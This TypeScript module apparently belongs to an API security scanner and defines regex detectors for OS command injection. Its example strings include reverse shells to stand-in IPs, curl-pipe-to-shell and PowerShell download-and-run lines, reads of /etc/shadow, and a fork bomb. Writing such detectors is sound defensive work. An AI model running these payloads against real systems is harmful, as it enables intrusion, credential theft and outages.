/** Commands of Unix shells, of Windows and of PowerShell where a value was expected. README.md tells the method and what the tokens are. */
import { type Detector, inputPlaces } from "../types.ts";

/** A header's value may have parts with semicolons between them. */
const valuePlaces = inputPlaces.filter((place) => place !== "header" && !place.startsWith("response"));
/** A name may be a word that is a command's as well: `uname`, `systemInfo`. */
const unnamedPlaces = inputPlaces.filter((place) => !place.endsWith("-name") && place !== "json-key");

/** What may stand before a separator: a value, not a sentence. */
const first = String.raw`^(?:[^Nwe\x60]*[we]){0,3}[^Nwe\x60]*`;

export const detector: Detector = {
  name: "command-injection",
  title: "OS command injection",
  owaspApi: ["API8:2023"],
  owaspTop: ["A03:2021"],
  cwe: [77, 78, 88],
  mitre: ["T1059", "T1059.004", "T1059.003", "T1059.001", "T1190"],
  findings: [
    {
      id: "separated-command", why: "A command's separator is followed by the name of a command.", over: "shell", score: 5,
      pattern: new RegExp(String.raw`${first}[;|&AB(S]+v?\{?[ob]*[CW]`),
      examples: ["x; whoami", "a|ifconfig", "$(uname -a)", "127.0.0.1 && nslookup x", "www.a.example;w\\hoami"],
      counterExamples: ["Use `ls` first", "Tom & Jerry", "one; two"],
    },
    {
      id: "separated-call", why: "A command's separator is followed by a command and its arguments.", over: "shell", score: 5,
      pattern: new RegExp(String.raw`${first}(?:[;&AB(S]+v?\{?[ob]*[clt][fPpuivdG<>${"`"}]|[(S]\{?[ob]*[clt](?:\)|$)|\|[ob]*[clt][fPpuivG<>])`),
      examples: ["; ls -la", "x & dir c:\\", "a | cat /etc/passwd", "$(id)", "|| ping -c 3 127.0.0.1"],
      counterExamples: ["| id | name |", "cat; dog", "Salt & pepper; more"],
    },
    {
      id: "separated-end", why: "A command's separator is followed by a command, and then by the end or another separator.", over: "shell", score: 5, places: valuePlaces,
      pattern: new RegExp(String.raw`${first}(?:[;AB][ob]*[ct](?:$|[;|N]|n$)|&[ob]*t(?:$|[|N]|n$)|&[ob]*c(?:[|N]|n$)|\|[ob]*[ct](?:$|[;&N]))|^[a-z]?\|[ob]*[clt]\|$|[;&|AB${"`"}(][ob]*[Wclte]w?H[ob]*[WCcltew]|^[^N]{0,3}v+f`),
      examples: ["x;id", "127.0.0.1 && ls", "x | sh", "a;ps;"],
      counterExamples: ["| id | name |", "Salt & pepper", "x ; y"],
    },
    {
      id: "separated-word", why: "A command's separator is followed by a command that is also a word, with the arguments of a command.", over: "shell", score: 5,
      pattern: new RegExp(String.raw`${first}[;|&AB(S]+[ob]*(?:[el][fPiGu]|e[clC]f|t[if]|tn(?:$|[^w~]|w$)|[le][<>H]P?|l[we]?f|e[wnpd]f|e[^N;|&]{0,4}H)|[;|&AB]vH`),
      examples: ["a | sort -r", "& type c:\\boot.ini", "; sleep 10", "; find /etc -name passwd", "| bash -i", "x;find . -exec y"],
      counterExamples: ["read; write", "Find & sort", "start; stop"],
    },
    {
      id: "separated-late", why: "A separator of commands behind a few words is followed by a command with the arguments of one, and the value ends with it.", over: "shell", score: 5,
      pattern: /^w(?:[we]{3,15})[;|AB(S`][ob]*[WCc][^Nwe;|AB]{0,4}[Pui](?:w{0,2}[^Nwe]){0,16}w{0,2}$/,
      examples: ["my file name here; wget http://x.example/y.sh"],
      counterExamples: ["Use `ls` first"],
    },
    {
      id: "separator-first", why: "The value begins with a separator of commands and the name of a command.", over: "shell", score: 5,
      pattern: /^[;|&AB]+[ob]*(?:[WCct](?:$|[^|])|[el](?:$|[fPiGupdv&]|w$)|e[lWCct]$)|^[;|AB]+[el];|^[;AB]+[ob]*(?:l[^N]|e[^N]{0,6}(?:[fPpiuGvH>(`]|wn$))/,
      examples: ["|id", "; ls", "& ping x", "';top'", "|vi (x", "; kubectl get secrets", "|| kill -9 1"],
      counterExamples: ["| id | name |", "& more of it all", "; then"],
    },
    {
      id: "substituted-command", why: "The value is, or has in its first words, a command in backquotes.", over: "shell", score: 5,
      pattern: /^[a-z]?`\{?[ob]*(?:[WCct][^`N]*|[le][a-z]{0,2}[fPpuivdG>][^`N]*)`?$/,
      examples: ["`id`", "a`ping 127.0.0.1`", "`find / -name x`"],
      counterExamples: ["`x`", "`date`", "What does `ls -la` do", "Use the command `ls` and then the command `cat` to see it"],
    },
    {
      id: "command-alone", why: "The value is nothing but a command.", over: "shell", score: 5, places: unnamedPlaces,
      pattern: /^[;N`]*[ob]*(?:W(?:[wdnet]{0,3}[;|N]*$|[|;&AB<>H])|[WC](?:dN*$|[wn]?[fPpuivG>](?:w{0,2}[^Nw])*w{0,2}N*$|[wn]?[|;&AB<H](?:[ob]*[WCctleP]|$)))/,
      examples: ["whoami", "ifconfig -a", "nslookup evil.example", "uname -a", "wget http://x/y"],
      counterExamples: ["curl", "whoami is a command that tells who you are", "hostname of the server", "curl hair tips"],
    },
    {
      id: "short-command", why: "The value is a command with its arguments.", over: "shell", score: 5,
      pattern: /^[;N]*[ob]*(?:[ct](?:[fPGiu](?:w{0,2}[^Nw])*|[fPiu][^N|;&>]{0,4}[|;&>][ob]*[WCctle][^N]{0,8}|p|pp|dP|nPP?|aP[^N]{0,8}|[<>][Ppd]|[wd]?[|;&][ob]*[WCct][^N]{0,8}|[;|])|l(?:[uP]|f[^N])(?:w{0,2}[^Nw])*w{0,2}|e(?:[pP][^N]{0,4}f[^N]{0,4}|[fP][^N]{0,6}[Ppfc<>|][^N]*|P|[a-z]{0,6}\|[^N]*[ob]*[lcCW]))N*$/,
      examples: ["ls -la", "cat /etc/passwd", "ping -c 3 127.0.0.1", "ping.exe -n 31 127.0.0.1", "python -c 'x'", "id;", "dir c:\\", "echo x | sh"],
      counterExamples: ["cat and dog", "python for beginners", "id", "ping pong table", "find love", "sort by date"],
    },
    {
      id: "command-path", why: "The value is a command with its folder.", over: "shell", score: 5,
      pattern: /^[;N]*o?b(?:[WCcet](?:$|[^N]{0,8}$)|l[^N]{1,8}$)|^[^N`]*[;|&AB(S]o?b[A-Za-z]|^[we]{0,3}`o?b[A-Za-z]|`o?b[A-Za-z][fPpuivd]/,
      examples: ["/usr/bin/id", "/bin/cat /etc/shadow", "x;/bin/ls", "bin/visudo"],
      counterExamples: ["bin/out", "/usr/share/doc", "one two three four `/bin/bash` five"],
    },
    {
      id: "wrapped-command", why: "A command that runs another command is given one.", over: "text", score: 5,
      pattern: /^[\s"'`;|&]*['"]?(?:ti['"]*me|nohup|sudo|doas|env|nice|exec|command|busybox|xargs|eval|setsid|stdbuf|watch|strace|builtin|proxychains)['"]?;?\s+(?:-[\w-]+\s+)*(?:[\w./-]*\/)?['"]?(?:who|whoami|id|ls|ps|cat|sh|bash|zsh|ksh|dash|curl|wget|nc|ncat|ifconfig|uname|ping|python\d?|perl|ruby|php|node|rm|cp|chmod|chown|nslookup|dig|bsdtar|tar|find|grep|awk|sed|kill|ip|netstat|env|visudo|ansible[\w-]*|chef[\w-]*|su|-i|passwd|useradd|\d+<)(?:['"\s;|&]|$)/i,
      examples: ["time whoami", "nohup ifconfig", "sudo cat /etc/shadow", "exec bash", "time sh -c whoami", "ti''me curl x.example"],
      counterExamples: ["time to go", "sudoku", "nice weather", "execute", "environment"],
    },
    {
      id: "piped-to-interpreter", why: "What a command prints is run by an interpreter.", over: "text", score: 5,
      pattern: /^(?:[^\s|<]*|[^\n|<]*\w[/.$=:-]\w[^\n]*|[^\n|<]*\s-\w[^\n]*)\s*(?:\||<<<)\s*(?:[\w/]*\/)?(?:ba|z|k|da|a|c|tc)?sh\b\s*(?:$|[;&#'"`)-]|\s\w)|^[^\n]*\|\s*(?:[\w/]*\/)?(?:python\d?|perl|ruby|php|node)\s*(?:$|-\s*$|[;&'"`)])|\bbase64\s+(?:-d|-D|--decode)\s*\|/i,
      examples: ["curl http://x/y | sh", "echo aWQ=|base64 -d|bash", "x|perl"],
      counterExamples: ["ash | oak", "a | shop", "curl x | jq ."],
    },
    {
      id: "command-at-end", why: "The value ends with a separator of shells and a command, whatever stands before.", over: "text", score: 5,
      pattern: /(?:`|\$\()[\t ]*(?:id|whoami|uname(?:\s+-a)?|ifconfig)[)`][;&|#'"]*\s*$|(?:[;|&]|\$\()[\t ]*(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|uname(?:\s+-a)?|hostname|ifconfig|ipconfig|netstat(?:\s+-\w+)?|ps\s+-?\w+|printenv|pwd|ls(?:\s+-\w+)?|ls\s+\/\S*|dir|cat\s+\/\S+|type\s+[a-z]:\S+|sleep\s+\d+|ping\s+-[cn]\s+\d+\s+\S+|(?:curl|wget|nslookup|dig)\s+\S+\.\S+)\s*[)`;&|#'"]*\s*$/i,
      examples: ["hello hello hello; ls -la", "a long text | id", "name=x && whoami", "x $(id)", "x `id`", "lorem; cat /etc/hosts"],
      counterExamples: ["id; name; price", "the cat | dog", "run ls -la", "sleep; 8 hours"],
    },
    {
      id: "accounts-read", why: "A separator of shells is followed by a command that reads the system's accounts.", over: "text", score: 5,
      pattern: /[;|&(]\s*(?:cat|head|tail|less|more|nl|tac|strings|xxd|base64)\s[^;|&\n]*\/etc\/(?:passwd|shadow|group|sudoers)\b/i,
      examples: ["hello; cat /etc/passwd and more", "$(head -1 /etc/shadow)x"],
      counterExamples: ["the file /etc/passwd", "cat /etc/motd"],
    },
    {
      id: "network-shell", why: "A shell is joined to the network.", over: "text", score: 8,
      pattern: /[<>]\s*&?\s*\/dev\/(?:tcp|udp)\/|\$\w+\/tcp\/\d+\.\d|\/dev\/(?:tcp|udp)\/(?:\d{1,3}\.|[\w.-]+\/\d)|\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd|\.exe)?\s[^\n]*-[a-z]*[ec]\s*['"]?(?:\/bin\/|\/usr\/bin\/|cmd|ba?sh|sh|powershell)|\bsocat\s+[^\n]*exec:|\bmkfifo\s+\/tmp\/|\bsh\s+-i\s*[<>0-9]|\bpty\.spawn\s*\(|fsockopen\s*\([^\n]*(?:\/bin\/sh|exec)|TCPSocket\.(?:new|open)\s*\([^\n]*exec|\bfile_transfer\b\.exec/i,
      examples: ["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242", "exec 5<>/dev/tcp/8.8.8.8/80"],
      counterExamples: ["nc -z host 22", "the device /dev/null"],
    },
    {
      id: "shellshock", why: "A function definition that old versions of Bash run on (CVE-2014-6271).", over: "text", score: 8,
      pattern: /^[\s"'`]*\(\s*\)\s*\{\s*(?:$|[^\n]*;\s*\}\s*;)|\(\)\s*\{\s*[:_]\s*;\s*\}\s*(?:;|>_\[)/,
      examples: ["() { :;}; /bin/bash -c 'id'", "() {"],
      counterExamples: ["main() {\n  return;\n}", "() => {}", "f() { return 1 }"],
    },
    {
      id: "fork-bomb", why: "A function that calls itself in the background until the machine is full.", over: "text", score: 8,
      pattern: /^[\s;"']*[\w:.]+\s*\(\s*\)\s*\{\s*[\w:.]+(?:\(\))?\s*[|&]\s*[\w:.]+(?:\(\))?\s*&?\s*;?\s*\}/,
      examples: [":(){ :|:& };:", "f(){ f & f; };f"],
      counterExamples: ["f() { g; }", ":)"],
    },
    {
      id: "hidden-command", why: "A command's name is broken up by quotes, backslashes, carets or empty expansions.", over: "shell", score: 5,
      pattern: /^[^N]{0,12}o[bWCclt]|^[^N]{0,12}[;|&AB(`]o[el]/,
      examples: ["w'h'o'a'm'i", "c\\at /etc/passwd", "cu$@rl x.example", "p^ing x", "''c''url x"],
      counterExamples: ["I'd like a cat", "she'll be", "rock'n'roll", "\"id\""],
    },
    {
      id: "field-separator", why: "Words are separated by the shell's variable IFS instead of by spaces.", over: "text", score: 8,
      pattern: /\$\{\w+:\d+:\d+\}|\$(?:IFS\b|\{IFS[^}\n]{0,12}\})[^\s=]{0,3}[\w/$'"-]|\w\$(?:IFS\b|\{IFS\})/,
      examples: ["cat$IFS/etc/passwd", "ls${IFS}-la", "cat${IFS%??}x"],
      counterExamples: ["OLDIFS=$IFS", "IFS=$'\\n'"],
    },
    {
      id: "brace-command", why: "A command and its arguments stand in braces, which the shell takes apart.", over: "text", score: 5,
      pattern: /(?:^|[\s;|&`('"=])\{,?(?:ls|cat|id|ping|curl|wget|nc|ifconfig|ipconfig|whoami|echo|uname|bash|sh|python\d?|n\w*\\?\w*|sleep|\/[\w?*]+)[^}\s]*,[^}\s]*\}|\w\{\w*,\w*\}\w*\s*$|^\{,?[\w$'?*/-]+,(?:[#\w$'?*/-]*,?)*\}\s*$|^\{,[\w$'?*/-]+\}\s*$/,
      examples: ["{cat,/etc/passwd}", "x;{ping,-c,3,x}", "c{a,oun}t", "{,ifconfig}", "{id,}"],
      counterExamples: ["{a: 1, b: 2}", "{\"ls\":1,\"b\":2}", "{name}", "{ls , b}"],
    },
    {
      id: "glued-substitution", why: "A command in backquotes or $() is part of a word, as one that is put together.", over: "text", score: 5,
      pattern: /[\w.@\/=-]`\s*(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|hostname|uname|ls|cat|pwd|sleep|ping|nslookup|dig|curl|wget|echo|printf|sh|bash|nc|env|ps|ifconfig)(?:\s[^`\n]*)?`|(?:^|[^\\\w$])`(?:id|whoami|hostname|uname(?:\s-\w+)?)`[\w.@\/-]|[\w.@\/=-]\$\(\s*(?:id|whoami|hostname|uname|ls|cat|pwd|sleep|ping|nslookup|dig|curl|wget|printf)\b[^)\n]*\)|\$\((?:id|whoami|hostname|uname(?:\s-\w+)?)\)|=`[a-z][^`\n]*`(?:$|&)|\(`(?:id|whoami|uname[^`\n]*)`\)|^\((?:id|whoami|uname|hostname)[ )|]|&\s*\(\s*(?:['"][^'"\n]+['"]\s*\+|(?:gcm|get-command)\s)/i,
      examples: ["invoice-`id`.pdf", "`whoami`.x.example", "http://x.example/$(id)", "poller=`touch /tmp/x`", "&('who'+'ami')"],
      counterExamples: ["the `id` of it", "`ls` lists", "x-`y`-z"],
    },
    {
      id: "path-behind-separator", why: "A separator of shells is followed by the path of a program.", over: "text", score: 5,
      pattern: /^[^\n]*[;|&]\s*\/(?:usr\/)?(?:local\/)?s?bin\/[a-z]|[;|&]\s*\.\s+\/\w/i,
      examples: ["x;/usr/sbin/telnetd -p 9191", "a | /bin/x", ";. /tmp/x"],
      counterExamples: ["use /usr/bin/env", "or /bin/sh", "It was called `env`: what is the path of `/usr/bin/env` for?"],
    },
    {
      id: "argument", why: "An option that makes a program run another, or read and write files, where a value was expected (CWE-88).", over: "text", score: 5,
      pattern: /^[\s"']*-{1,2}(?:upload-pack|receive-pack|exec|eval|use-askpass|post-file|body-file|to-command|use-compress-program|rsh(?:-command)?|unzip-command|pager|gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|sendmail|open-files-in-pager|rcfile|init-file|include|import)[ =]\S|\bcheckpoint-action=exec|--(?:unzip-command|to-command|use-askpass|rsh-command|use-compress-program)=\S|(?:^|\s)-OQueueDirectory=|(?:^|\s)-X\s?\/(?:var|srv|home|tmp|opt)\/|(?:^|\s)-o\s?(?:proxycommand|localcommand|permitlocalcommand)[= ]|\bproxycommand=|\bupload-pack=\S|\balias\.\w+=!|\bcore\.(?:sshcommand|gitproxy|fsmonitor|pager|editor|hookspath)=|\bext::(?:ba)?sh\b|^-be\s+\$\{run/i,
      examples: ["--upload-pack=touch /tmp/x", "-oProxyCommand=id", "--checkpoint=1 --checkpoint-action=exec=sh x.sh", "ext::sh -c id"],
      counterExamples: ["--verbose", "the option --exec of find", "-o file.txt"],
    },
    {
      id: "escaped-string", why: "A shell's string of escapes, which no letters show.", over: "text", score: 5,
      pattern: /\$'(?:[^'\n]*\\(?:x[0-9a-f]{2}|[0-7]{3}|u[0-9a-f]{4})){2}/i,
      examples: ["$'\\x69\\x64'"],
      counterExamples: ["$'x'", "IFS=$'\\n'"],
    },
    {
      id: "loop", why: "A separator of shells is followed by a loop or a test.", over: "text", score: 5,
      pattern: /^[^\n;&|]*[;&|]\s*(?:for\s+\w+\s+in\s[^;\n]+;\s*do\s|if\s+(?:\[|test\s)[^;\n]+;\s*then\s|(?:while|until)\s+(?:read|true|:|\[|!)[^;\n]*;\s*do\s)/,
      examples: [";for i in /*; do echo $i; done", "x;if [ 1 = 1 ]; then y; fi"],
      counterExamples: ["wait; if it rains, then stay", "for you in time; do it"],
    },
    {
      id: "powershell-ticks", why: "Backquotes break up a word of PowerShell.", over: "text", score: 5,
      pattern: /(?:^|[;|&(])\s*[a-z]+`[a-z](?:`?[a-z-])*[\s(]|-[a-z]+`[a-z](?:`?[a-z])*[\s)]/i,
      examples: ["; i`ex (x)", "(i`wr http://x -UseB`asic)"],
      counterExamples: ["see `iex` here", "a `b` c"],
    },
    {
      id: "glob-path", why: "A path is spelt with the shell's patterns so that no name stands in it.", over: "shell", score: 5,
      pattern: /^[^N]{0,8}G/,
      examples: ["/???/??t /???/??ss??", "cat /et*/passwd", "/bin/ca? /et*/pa??wd", "cat /etc/pas[s]wd"],
      counterExamples: ["/search?q=a", "what? really?", "/images/*.png", "a/b?c=/d"],
    },
    {
      id: "variables-as-command", why: "Parts of a command are put into variables, and the variables are run.", over: "shell", score: 5,
      pattern: /^(?:[^N]{0,3}[;|&AB]+)?N?(?:e?a[^N;|&AB]{0,4}[;&AB|]+){1,32}v/,
      examples: ["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "c=who;$c", "x;a=i;b=d;$a$b"],
      counterExamples: ["a=1&b=2", "x=5; y=6"],
    },
    {
      id: "substitution", why: "The value is a substitution or an expansion of a shell with a command in it.", over: "text", score: 5,
      pattern: /^[^\s$<>(]*[\s"']*(?:\$\(\s*(?:[A-Za-z][\w-]*\s[^\n(]*|[/$<][^\n(]*)(?:\$\([^\n]*)?\)|[<>]\(\s*[\w/]+[^\n]*\)|\$\{\s*(?:`|\w+\s*[#%/]+\S)[^\n]*\}|\$\[\s*\d+\s*[-+*][^\n]*\]|\$\{\w+\}\s+-c\s)[\s"';)]*$|^\s*~[+-]\d*\s*$|^\s*!-?\d+(?:!-?\d+)*\s*$/,
      examples: ["$(cmd x)", "<(cmd)", "${PATH#{}/}", "$[2+2]", "~+", "!-1!-2"],
      counterExamples: ["$(document).ready(function() {})", "$('#a').hide()", "cost ${price}", "~5 people", "!important"],
    },
    {
      id: "redirection", why: "The value writes to, or reads from, a file of the system.", over: "text", score: 5,
      pattern: /^(?:[^\s<>]+\s+){0,2}[^\s<>]*\s*(?:>{1,2}|<)\s*\/?(?:tmp|dev|etc|var|root|home|proc|usr|bin|opt)\/[\w.-]|>\s*(?:\/var\/www|\/usr\/share\/nginx)|^(?:[^\s]+\s+){0,4}[^\s]*\d>&\d\s*$/,
      examples: [">/tmp/curl", "id > /var/www/html/x", "x < /etc/passwd", "ls 2>&1"],
      counterExamples: ["a > b", "<home>", "x<y and y>z", "Home > etc"],
    },
    {
      id: "windows-call", why: "An interpreter of Windows is given code or a command.", over: "text", score: 5,
      pattern: /\bcmd(?:\.exe)?\s*\/[ckr]\b\s*\S|\bpowershell(?:\.exe)?\s[^\n]*-(?:e|en|enc|enco\w*|nop\w*|noni\w*|w|windowstyle|exec\w*|ep|c|command|file)\b|\b(?:iex|invoke-expression)\b(?:[^\n]{0,8}\(|\s+['"$])|\[char\[\]\]\s*\(|\(?new-object\)?\s+(?:system\.)?net\.(?:webclient|sockets)|\.download(?:string|file)\s*\(|\[system\.(?:convert|text\.encoding|diagnostics|reflection)[^\n\]]*\]::|\bcertutil\b[^\n]*-(?:urlcache|decode)|\bbitsadmin\b[^\n]*\/transfer|\bmshta\s+(?:https?|vbscript|javascript):|\bregsvr32\b[^\n]*\/i:|\bnet1?\s+(?:user|localgroup|share|group|use|view|accounts)\b\s*(?:$|[^\n]*\/(?:add|delete|domain|active)\b|\/)|\breg\s+(?:query|add|save|export)\s+hk|\bwmic\s+(?:process|os|useraccount|\/node)/i,
      examples: ["cmd /c dir", "powershell -enc SQBFAFgA", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "certutil -urlcache -f http://x y", "net user"],
      counterExamples: ["command line", "powershell is nice", "the net user experience"],
    },
    {
      id: "windows-batch", why: "The value is a loop or a test of a Windows command line.", over: "text", score: 5,
      pattern: /^[\s&|;"']*for\s*(?:\/[dlrf]\s+)*(?:[^\n%]{0,40}\s)?%{1,2}[\w~\-@\]^_]*\w*\s+in\s*\([^\n]*\)\s*do\b|^[\s&|;"']*if\s*(?:\/i\s*)?(?:not\s+)?(?:exist\s+[\w("\\%.:]+|defined\s+\w+|errorlevel\s+\d|cmdextversion\s+\d|["([{%]*[\w%~:,!\- ]*["')\]}%]*\s*(?:==+|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*["([{%\w\\])[^\n]*\s*$/i,
      examples: ["for %i in (*) do echo %i", "& FOR /F \"delims=\" %G IN ('SET') DO @echo %G", "if not exist x.txt echo y", "IF %A% GEQ 2 echo test", "if /i a==b foo"],
      counterExamples: ["for each item in (a) do it", "if not, then no", "if x existed", "if (a == b) {\n  return;\n}"],
    },
    {
      id: "windows-escape", why: "Carets or empty quotes break up a word of a Windows command line.", over: "text", score: 5,
      pattern: /(?:[a-z]\^){3}|[a-z]\^[a-z]{1,8}\^[a-z]+\s+[-/\w]|^(?:[^\s]+\s+){0,2}[^\s]*%(?:comspec|systemroot|windir|path:~\d|programfiles:~\d|username|computername)[^%\s]*%/i,
      examples: ["w^h^o^a^mi", "%COMSPEC% /c dir", "%PATH:~0,1%"],
      counterExamples: ["x^2", "a^b", "100%"],
    },
    {
      id: "timed", why: "A command that waits or calls out stands after a break, as blind probes have it.", over: "text", score: 5,
      pattern: /(?:^(?:[^\s]+\s+){0,3}[^\s]*[;|&(]|^|\n|^[^\s`]*`|%0a)\s*(?:\/bin\/|\/usr\/bin\/)?(?:sleep\s+\d+|ping\s+-[nci]\s*\d+\s+[\w.]+|timeout\s+(?:\/t\s+)?\d+|nslookup\s+(?:-\S+\s+)*[\w.-]+\.\w+|getent\s+hosts\s+\S+|(?:curl|wget)\s+(?:-\S+\s+)*(?:https?:\/\/|[\w-]+\.)[^\s]+)\s*(?:$|[;|&`#)'"])/i,
      examples: ["x\nsleep 5", "| /bin/sleep 31 ;", "||ping -c 10 127.0.0.1||", "`nslookup a.example.com`"],
      counterExamples: ["We sleep 8 hours", "time to ping"],
    },
    {
      id: "echo", why: "A separator of commands is followed by a command that prints one word, tells one answer or lists processes.", over: "text", score: 5,
      pattern: /^(?:[^\s]+\s+){0,2}[^\s]*[;|&`(]\s?echo\s+[^\s;|&]+\s*(?:$|[;|&#`)])|^[\s;|&`]*ps\s+-?(?:auxw*|axu?|ef)\s*(?:$|[|;&])|^["']?`(?:true|false)`["']?\s*$|\bset\s+\/a\s+["'(]?\d/,
      examples: ["x;echo 12345", "`echo a`", "`true`", "ps aux", "|set /a (5+5)"],
      counterExamples: ["Home & Echo Dot", "an echo of it", "ps auxiliary"],
    },
    {
      id: "line-command", why: "A line end after the first word is followed by a command.", over: "shell", score: 5,
      pattern: /^[^N]{0,2}N+[ob]*(?:[WC](?:[wd]?N*$|[fPpuivd][^N]{0,8}N*$)|[ct](?:N*$|[fPpivn][^N]{0,8}N*$))/,
      examples: ["x\nwhoami", "127.0.0.1%0aid", "a\ncat /etc/passwd"],
      counterExamples: ["one two three four\nls", "Hello\nworld"],
    },
    {
      id: "shell-builtin", why: "The value changes what a shell's words mean, or leaves no trace of itself.", over: "text", score: 5,
      pattern: /^[\s;]*['"]?(?:alias\s+(?:[-+]\w+\+?\s+)?['"]?[\w.]+['"]?=|set\s+[-+]o\s+\w+|trap\s+['"][^'"\n]+['"]\s+\w+|unset\s+HIST\w+|export\s+(?:PATH|LD_PRELOAD|HISTFILE|PS\d)=[^\n]*\s*$|enable\s+-[fn]|shopt\s+-s|cd\s+\/\s*;)|\bLD_PRELOAD=|\bHISTFILE=\/dev\/null|^[\s\d;]*\\?n?\.['"\\]*(?:shell|system|sh)['"]*\s+\w/i,
      examples: ["alias a=b", "set -o history", "cd /;cd etc;fold passwd", ".shell nc x", "LD_PRELOAD=/tmp/x.so ls"],
      counterExamples: ["alias: Bob", "set -up", "the shell", "cd / is the root"],
    },
  ],
};
